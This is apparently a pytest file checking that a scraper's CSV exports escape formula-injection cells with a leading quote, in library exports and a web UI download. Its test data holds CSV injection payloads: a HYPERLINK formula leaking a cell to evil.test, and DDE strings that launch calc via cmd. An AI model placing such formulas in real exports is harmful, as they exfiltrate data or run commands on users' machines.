"""CSV exports never hand a spreadsheet a formula: text cells that would start one begin with a quote."""

from __future__ import annotations

import csv
import io

import pytest

from spiderflow.message import ResultPack
from spiderflow.result import export_results
from spiderflow.storage import connect_resultdb
import test_webui
from test_webui import add_project

# the web UI fixtures of test_webui, shared
dbs, serve, client = test_webui.dbs, test_webui.serve, test_webui.client

HOSTILE = {
    "title": '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "=key": "a column name is a cell too",
    "fine": "plain text, = inside is harmless",
    "number": -5,
    "nested": {"x": "=1+1"},
}
ESCAPED = {
    "title": "'" + HOSTILE["title"], "plus": "'" + HOSTILE["plus"], "minus": "'-2+3", "at": "'@SUM(1,2)",
    "tab": "'\t=1+1", "cr": "'\r=1+1", "'=key": "a column name is a cell too",
    "fine": HOSTILE["fine"], "number": "-5", "nested": '{"x":"=1+1"}',
}


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def store(db) -> None:
    db.upsert_many([ResultPack("shop", "t1", "http://shop.test/1", HOSTILE, updatetime=1.0),
                    ResultPack("shop", "t2", "=cmd|' /C calc'!A0", "-a bare result", updatetime=2.0)])


@pytest.fixture
def resultdb(tmp_path):
    db = connect_resultdb(f"sqlite:///{tmp_path}/result.db")
    store(db)
    yield db
    db.close()


def check(text: str) -> None:
    first, second = rows_of(text)
    for column, expected in ESCAPED.items():
        assert first[column] == expected, column
    assert first["taskid"] == "t1" and first["url"] == "http://shop.test/1"
    assert second["url"] == "'=cmd|' /C calc'!A0" and second["result"] == "'-a bare result"
    for row in (first, second):
        for value in [*row.values(), *row.keys()]:
            if value != "-5":          # a number is written as it is: -5 is no formula
                assert not value or value[0] not in "=+-@\t\r", (value, row)


def test_the_export_escapes_formula_cells(resultdb):
    out = io.StringIO(newline="")
    assert export_results(resultdb, "shop", "csv", out) == 2
    check(out.getvalue())


def test_json_exports_keep_the_text_as_it_is(resultdb):
    out = io.StringIO()
    export_results(resultdb, "shop", "jsonl", out)
    assert '"title":"=HYPERLINK(' in out.getvalue() and "'=" not in out.getvalue()


def test_the_web_ui_download_escapes_them_too(dbs, client):
    add_project(dbs, "shop")
    store(dbs.resultdb)
    answer = client.get("/api/results/shop.csv")
    assert answer.status == 200 and answer.headers["Content-Type"].startswith("text/csv")
    check(answer.text)
